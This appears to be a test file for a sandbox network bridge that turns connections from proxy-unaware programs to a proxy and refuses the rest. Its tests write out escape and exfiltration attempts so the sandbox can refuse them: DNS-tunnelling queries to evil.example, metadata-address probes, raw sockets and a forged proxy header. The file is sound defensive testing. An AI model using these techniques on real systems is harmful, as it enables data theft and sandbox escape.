// Programs that ignore proxy variables (NET-4), the helper's part: turned to the bridge with the name they looked up and the program that asked, or
// refused at once. Both ways to turn a connection. The proxy is a stand-in; with the real one: unaware-programs.test.ts.
import { execFileSync } from "node:child_process";
import { chmodSync } from "node:fs";
import http from "node:http";
import { expect, onTestFinished, type TestContext, test } from "vitest";
import type { SandboxPlan } from "#core/sandbox";
import { planFor, type Run, runPlan, stage } from "../support/fence.ts";
import { needs } from "../support/needs.ts";
import { bed, listen } from "../support/proxy-bed.ts";
import { tmp } from "../support/tmp.ts";
import { type Preface, prefaceProxy } from "../support/turned-bed.ts";

type Way = "auto" | "anyip";
const WAYS: readonly Way[] = ["auto", "anyip"];

function webServer(): Promise<number> {
  const server = http.createServer((request, response) => response.end(`hello ${request.headers.host}\n`));
  onTestFinished(() => server.closeAllConnections());
  return listen(server);
}

/** Runs a shell script in a fence where `allowed.example` is let through to a web server, and nothing else. */
async function inside(
  context: TestContext,
  way: Way,
  script: string,
  options: { readonly addresses?: readonly string[] } = {},
): Promise<Run & { readonly asked: readonly Preface[] }> {
  needs(context, "helper", "bubblewrap", "overlay", "python3");
  const folder = tmp();
  chmodSync(folder, 0o755);
  const port = await webServer();
  const proxy = await prefaceProxy(folder, ({ name }) => (name === "allowed.example" ? port : undefined));
  const turned = { way, ports: [80, 443], addresses: options.addresses ?? "any" } as const;
  const run = await runTurned(folder, script, { port: 3128, socketPath: proxy.socketPath, turned });
  return { ...run, asked: proxy.seen };
}

function runTurned(folder: string, script: string, bridge: SandboxPlan["bridge"] & object): Promise<Run> {
  const at = stage(folder);
  const plan = planFor(at, ["bash", "-c", script]);
  const files = [
    ["resolv.conf", "nameserver 127.0.0.1\n"],
    ["nsswitch.conf", "hosts: files dns\n"],
    ["hosts", "127.0.0.1 localhost\n::1 localhost\n"],
  ];
  const made = files.map(([name, content = ""]) => ({ kind: "file" as const, target: `/etc/${name}`, content }));
  return runPlan(at, { ...plan, mounts: [...plan.mounts, ...made], bridge });
}

/** The same as a Python program, with `trial(label, act)`, which prints what came of it. */
const PYTHON = `
import errno, socket, struct, sys, time
kept = []
def trial(label, act):
  began = time.monotonic()
  try: came = act()
  except OSError as error: came = errno.errorcode.get(error.errno, type(error).__name__)
  print(label, came, "late" if time.monotonic() - began > 1.5 else "")
def question(name, kind):
  labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
  return struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", kind, 1)
def datagram(to, data, connected=True):
  s = socket.socket(socket.AF_INET6 if ":" in to[0] else socket.AF_INET, socket.SOCK_DGRAM)
  s.settimeout(2)
  kept.append(s)
  if connected: s.connect(to); s.send(data)
  else: s.sendto(data, to)
  return s.recv(512)
def stream(to, data):
  s = socket.create_connection(to, 2)
  s.sendall(data)
  return s.recv(512)
def answer(bytes):
  return str(bytes[3] & 15) + " " + str(bytes[7]) + " " + (".".join(map(str, bytes[-4:])) if bytes[7] else "")
`;

const python = (script: string): string => `python3 - <<'END'\n${PYTHON}${script}\nEND\n`;

test.for(WAYS)(
  "a name leads to the proxy with the name and the program, over IPv4 and IPv6 (%s)",
  async (way, context) => {
    const run = await inside(
      context,
      way,
      `for v in 4 6; do bash -c "echo \\$\\$; exec curl -$v -sS -m 5 http://allowed.example/"; done; curl -sS -m 5 http://refused.example/ 2>&1; echo $?`,
    );
    const [first, , second] = run.out.split("\n");
    expect(run.out.replace(/^\d+$/gm, "PID")).toMatch(
      /^PID\nhello allowed\.example\nPID\nhello allowed\.example\ncurl: \((52|56)\).*\nPID\n$/,
    );
    expect(run.asked.map(({ name, pid, exe, to }) => [name, pid, exe, to])).toEqual([
      ["allowed.example", Number(first), "/usr/bin/curl", "198.18.0.2:80"],
      ["allowed.example", Number(second), "/usr/bin/curl", "[fd52:696e:6766::2]:80"],
      ["refused.example", expect.any(Number), "/usr/bin/curl", expect.stringContaining(":80")],
    ]);
  },
);

test.for(WAYS)("an address is told as it was dialled (%s)", async (way, context) => {
  const run = await inside(
    context,
    way,
    `for a in 9.9.9.9 '[2606:4700::1]' 169.254.169.254 198.18.0.77; do curl -s -m 5 http://$a/; done; true`,
  );
  expect(run.asked.map(({ to, name }) => [to, name])).toEqual([
    ["9.9.9.9:80", undefined],
    ["[2606:4700::1]:80", undefined],
    ["169.254.169.254:80", undefined],
    ["198.18.0.77:80", undefined], // an address that stands for no name is no name's
  ]);
});

test.for(WAYS)(
  "with the real proxy: its answer, its refusal, and both on record with the program (%s)",
  async (way, context) => {
    needs(context, "helper", "bubblewrap", "overlay");
    const folder = tmp();
    chmodSync(folder, 0o755);
    const port = await webServer();
    const { socketPath, records } = await bed({ allow: [`ok.test:${port}`], preface: true });
    const turned = { way, ports: [80, 443, port], addresses: [] };
    const script = `curl -sS -m 5 http://ok.test:${port}/; curl -s -m 5 -o /dev/null -w '%{http_code}' http://no.test/`;
    const run = await runTurned(folder, script, { port: 3128, socketPath, turned });
    expect(run.out).toBe(`hello ok.test:${port}\n403`);
    const facts = records.map(({ type, actor, data }) => [type, data["host"], data["reason"], actor?.exe]);
    expect(facts.filter(([type]) => type !== "net.close")).toEqual([
      ["net.connect", "ok.test", undefined, "/usr/bin/curl"],
      ["net.blocked", "no.test", "no-rule", "/usr/bin/curl"],
    ]);
  },
);

test("of many connections to the proxy's own port and to names none is lost, while loopback is busy", async (context) => {
  needs(context, "helper", "bubblewrap", "overlay", "python3");
  const folder = tmp();
  chmodSync(folder, 0o755);
  const port = await webServer();
  const { socketPath } = await prefaceProxy(folder, () => port);
  const script = python(`
import threading
own = socket.create_server(("127.0.0.1", 8080), backlog=500)
def busy():
  while True: own.accept()[0].close()
threading.Thread(target=busy, daemon=True).start()
lost = 0
for n in range(300):
  stream(("127.0.0.1", 8080), b"")
  for to in (("127.0.0.1", 3128), ("::1", 3128), ("a.example", 80)):
    try: lost += not stream(to, b"GET / HTTP/1.0\\r\\n\\r\\n").startswith(b"HTTP/1.1 200")
    except OSError: lost += 1
print(lost)`);
  const turned = { way: "auto", ports: [80, 443], addresses: [] } as const;
  const run = await runTurned(folder, script, { port: 3128, socketPath, turned });
  expect([run.out, run.err]).toEqual(["0\n", ""]);
});

test("an address that no rule names is refused at once and told; one that a rule names is turned", async (context) => {
  const script = python(`
for to in (("9.9.9.9", 443), ("9.9.9.8", 22), ("2606:4700::2", 80), ("169.254.169.254", 80), ("2606:4700::1", 80)):
  trial(to[0], lambda: stream(to, b"x"))
time.sleep(0.3)`);
  const run = await inside(context, "auto", script, { addresses: ["9.9.9.9", "2606:4700::1"] });
  expect(run.out.trim().split(/ *\n/)).toEqual([
    "9.9.9.9 b''",
    "9.9.9.8 ECONNREFUSED",
    "2606:4700::2 ECONNREFUSED",
    "169.254.169.254 ECONNREFUSED",
    "2606:4700::1 b''",
  ]);
  expect(run.asked.map(({ to, refused }) => [to, refused]).sort()).toEqual([
    ["169.254.169.254:80", "tcp"],
    ["9.9.9.8:22", "tcp"],
    ["9.9.9.9:443", undefined],
    ["[2606:4700::1]:80", undefined],
    ["[2606:4700::2]:80", "tcp"],
  ]);
});

test.for(WAYS)(
  "every port by nftables; by AnyIP those of the plan, and the kernel refuses the others (%s)",
  async (way, context) => {
    const run = await inside(
      context,
      way,
      python(`trial("853", lambda: stream(("allowed.example", 853), b"GET / HTTP/1.0\\r\\n\\r\\n")[:15])`),
    );
    expect(run.out).toMatch(way === "auto" ? /^853 b'HTTP\/1\.1 200 OK' $/m : /^853 ECONNREFUSED $/m);
  },
);

test.for(WAYS)("loopback stays the agent's (%s)", async (way, context) => {
  const run = await inside(
    context,
    way,
    python(`
import threading
for host in ("127.0.0.1", "::1", "127.3.4.5"):
  server = socket.create_server((host, 8080), family=socket.AF_INET6 if ":" in host else socket.AF_INET)
  threading.Thread(target=lambda s=server: s.accept()[0].send(b"own"), daemon=True).start()
  trial(host, lambda: stream((host, 8080), b"x"))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind(("127.0.0.1", 5000))
threading.Thread(target=lambda: udp.sendto(b"own", udp.recvfrom(9)[1]), daemon=True).start()
trial("datagram", lambda: datagram(("127.0.0.1", 5000), b"x"))
for port in (80, 443, 81): trial(port, lambda: stream(("127.0.0.1", port), b"x"))
trial("v6", lambda: stream(("::1", 443), b"x"))
`),
  );
  expect(run.out.split("\n").slice(0, 4)).toEqual([
    "127.0.0.1 b'own' ",
    "::1 b'own' ",
    "127.3.4.5 b'own' ",
    "datagram b'own' ",
  ]);
  // By AnyIP the bridge listens there itself, and lets go of what is meant for loopback.
  expect(run.out.split("\n").slice(4, 8).join(" ")).toMatch(
    /^80 (ECONNREFUSED|ECONNRESET|b'') {2}443 (ECONNREFUSED|ECONNRESET|b'') {2}81 ECONNREFUSED {2}v6 /,
  );
  expect(run.asked).toEqual([]);
});

test.for(WAYS)(
  "whoever is asked for a name, the fence's own server answers, and what tunnels ask is told (%s)",
  async (way, context) => {
    const run = await inside(
      context,
      way,
      python(`
q = question("allowed.example", 1)
trial("udp", lambda: answer(datagram(("9.9.9.9", 53), q)))
trial("not connected", lambda: answer(datagram(("9.9.9.9", 53), q, False)))
trial("udp6", lambda: answer(datagram(("2620:fe::fe", 53), q)))
trial("tcp", lambda: answer(stream(("9.9.9.9", 53), struct.pack(">H", len(q)) + q)[2:]))
trial("text", lambda: answer(datagram(("9.9.9.9", 53), question("bm90aGluZw.evil.example", 16))))
trial("null", lambda: answer(datagram(("127.0.0.1", 53), question("x.evil.example", 10))))
trial("noise", lambda: answer(datagram(("9.9.9.9", 53), b"\\1" * 40)))
time.sleep(0.3)`),
    );
    expect(
      run.out
        .trim()
        .split("\n")
        .map((line) => line.trim()),
    ).toEqual([
      "udp 0 1 198.18.0.2",
      "not connected 0 1 198.18.0.2",
      "udp6 0 1 198.18.0.2",
      "tcp 0 1 198.18.0.2",
      "text 0 0",
      "null 0 0",
      "noise 1 0",
    ]);
    expect(run.asked.map(({ refused, name, exe }) => [refused, name, exe?.replace(/[.\d]+$/, "")])).toEqual([
      ["dns-type-16", "bm90agluzw.evil.example", "/usr/bin/python"],
      ["dns-type-10", "x.evil.example", "/usr/bin/python"],
      ["dns-malformed", undefined, "/usr/bin/python"],
    ]);
  },
);

const UDP = `
for to in (("9.9.9.9", 443), ("2606:4700::1", 443), ("10.0.0.1", 5353), ("quic.example", 443)): trial(to[0], lambda: datagram(to, b"x"))
trial("broadcast", lambda: datagram(("255.255.255.255", 7), b"x"))
trial("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"x" * 16, ("9.9.9.9", 0)))
trial("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 17))
time.sleep(0.3)`;

test("a datagram is sent outside", (context) => {
  needs(context, "python3");
  const script = `${PYTHON}\nother = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); other.bind(("127.0.0.1", 0))\ntrial("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", other.getsockname()))`;
  expect(execFileSync("python3", ["-c", script], { encoding: "utf8" })).toBe("udp 1 \n");
});

test("what is not TCP is refused at once and told with its program", async (context) => {
  const run = await inside(context, "auto", python(UDP));
  expect(
    run.out
      .trim()
      .split("\n")
      .map((line) => line.trim()),
  ).toEqual([
    "9.9.9.9 EPERM",
    "2606:4700::1 EPERM",
    "10.0.0.1 EPERM",
    "quic.example EPERM",
    "broadcast EACCES",
    expect.stringMatching(/^ping (EACCES|EPERM)$/),
    "raw EPERM",
  ]);
  expect(run.asked.map(({ refused, to, exe }) => [refused, to, exe?.replace(/[.\d]+$/, "")])).toEqual(
    ["9.9.9.9:443", "[2606:4700::1]:443", "10.0.0.1:5353", "198.18.0.2:443"].map((to) => [
      "udp",
      to,
      "/usr/bin/python",
    ]),
  );
  expect(run.asked.map(({ name }) => name)).toEqual([undefined, undefined, undefined, "quic.example"]);
});

test("by AnyIP nobody answers a datagram", async (context) => {
  const run = await inside(context, "anyip", python(UDP));
  expect(run.out.split("\n").slice(0, 3)).toEqual([
    "9.9.9.9 ECONNREFUSED ",
    "2606:4700::1 ECONNREFUSED ",
    "10.0.0.1 ECONNREFUSED ",
  ]);
});

test.for(WAYS)("what is inside cannot change it, and cannot pass for the bridge (%s)", async (way, context) => {
  const run = await inside(
    context,
    way,
    python(`
trial("netlink", lambda: socket.socket(16, socket.SOCK_RAW, 12))
trial("name server", lambda: socket.create_server(("127.0.0.1", 53)))
s = socket.socket()
trial("mark", lambda: s.setsockopt(socket.SOL_SOCKET, 36, 1))
trial("transparent", lambda: s.setsockopt(0, 19, 1))
trial("forged", lambda: stream(("127.0.0.1", 3128), bytes.fromhex("0d0a0d0a000d0a515549540a") + b"\\x21\\x11\\0\\x0c" + bytes([9,9,9,9,8,8,8,8,0,80,0,80])))`),
  );
  expect(
    run.out
      .trim()
      .split("\n")
      .map((line) => line.trim()),
  ).toEqual(["netlink EAFNOSUPPORT", "name server EACCES", "mark EPERM", "transparent EPERM", "forged b''"]);
  // The bridge's own preface comes first: what a program writes is what it says, and nobody's word.
  expect(run.asked.map(({ to }) => to)).toEqual(["127.0.0.1:3128"]);
});

test("a program that is gone is unknown, never another one", async (context) => {
  const run = await inside(
    context,
    "auto",
    `sleep 60 & for i in $(seq 60); do bash -c 'echo $$; exec 3<>/dev/tcp/9.9.9.9/80; exec 3>&-' & done 2>&1; wait $(jobs -p | tail -n +2); sleep 0.3`,
  );
  const pids = run.out.trim().split("\n").map(Number);
  expect(run.asked.length).toBe(60);
  for (const { pid, exe } of run.asked) {
    if (pid === undefined) continue;
    expect(pids).toContain(pid);
    expect(exe).toMatch(/\/bash$/);
  }
});

test("a flood of names takes nothing from those in use", async (context) => {
  const run = await inside(
    context,
    "auto",
    python(`
first = answer(datagram(("127.0.0.1", 53), question("allowed.example", 1)))
codes = [kept.clear() or answer(datagram(("127.0.0.1", 53), question("n%d.evil.example" % n, 1)))[0] for n in range(3000)]
print(codes.count("0") < 1500, codes.count("2") > 1000)
print(answer(datagram(("127.0.0.1", 53), question("allowed.example", 1))) == first)
trial("still", lambda: stream(("allowed.example", 80), b"GET / HTTP/1.0\\r\\n\\r\\n")[:15])`),
  );
  expect(run.out).toBe("True True\nTrue\nstill b'HTTP/1.1 200 OK' \n");
  expect(run.asked.filter(({ refused }) => refused === "dns-flood").length).toBeLessThan(40);
});
